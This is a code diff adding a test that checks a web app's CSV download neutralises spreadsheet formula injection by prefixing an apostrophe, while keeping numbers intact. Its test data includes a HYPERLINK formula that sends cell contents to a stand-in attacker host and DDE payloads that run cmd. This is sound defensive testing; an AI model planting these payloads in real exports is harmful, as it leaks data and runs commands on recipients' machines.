@@ -106,3 +106,41 @@ def test_bad_downloads(client, url, status):
     r = client.get(url, headers={"Accept": "application/json"})
     assert r.status_code == status
     assert "Traceback" not in r.get_data(as_text=True)
+
+
+#: Text that spreadsheet programs run as a formula (OWASP "CSV Injection"), and plain text.
+HOSTILE_TEXT = [
+    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!A0",
+    "+39 0372 1",
+    "-2+3",
+    "\tcon tab",
+    "\rcon ritorno",
+    "Piazza del Comune",
+]
+
+
+def test_csv_download_neutralises_formulas_and_keeps_numbers(app, client, spec):
+    """Text cells that start like a formula get a leading ', numeric fields stay numbers."""
+    import csv
+
+    import shapely
+
+    from tests.conftest import punti_frame
+
+    n = len(HOSTILE_TEXT)
+    data = punti_frame(
+        [shapely.Point(10.0 + i / 100, 45.1) for i in range(n)],
+        nome=HOSTILE_TEXT,
+        posti=[-5] * n,
+        punteggio=[-1.5] * n,
+    )
+    app.extensions["geoportale"].store.write_layer(spec("punti"), data)
+    r = client.get("/download/punti.csv")
+    assert r.status_code == 200
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(r.get_data(as_text=True)))}
+    names = [rows[f"n{i + 1}"]["nome"] for i in range(n)]
+    assert names == ["'" + t for t in HOSTILE_TEXT[:-1]] + ["Piazza del Comune"]
+    assert {row["posti"] for row in rows.values()} == {"-5"}
+    assert {float(row["punteggio"]) for row in rows.values()} == {-1.5}
